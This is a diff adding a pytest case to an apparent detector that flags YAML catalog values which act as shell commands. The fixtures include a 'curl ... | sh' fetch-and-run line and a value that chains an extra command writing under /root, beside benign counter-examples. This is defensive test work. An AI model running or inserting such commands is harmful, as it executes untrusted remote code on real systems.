@@ -130,6 +130,21 @@ def test_sql_that_leaves_the_database(statement):
     assert verdicts("COPY t FROM '/data/t.csv' CSV; SELECT load(x)\n", "schema.sql") == []
 
 
+@pytest.mark.parametrize(
+    ("line", "found"),
+    [
+        ("default: 'shell(id)'", True),
+        ("urls: 'pipe:id > /root/x; cat a.tar'", True),
+        ("urls: 'pipe:curl -s https://x/a.tar | sh'", True),
+        ("urls: 'pipe:aws s3 cp s3://b/{000..100}.tar -'", False),
+        ("urls: 'pipe:curl -s -L https://x/a.tar || true'", False),
+        ("default: shell", False),
+    ],
+)
+def test_values_that_are_commands(line, found):
+    assert bool(verdicts(f"a:\n  {line}\n", "catalog.yml")) == found
+
+
 @pytest.mark.parametrize("name", ["README.md", "notes.txt", "prompts.json", "data.jsonl", "tokenizer.json"])
 def test_what_only_speaks_of_commands(name):
     assert verdicts(f'{{"text": "{CONNECT}"}}\n', name) == []
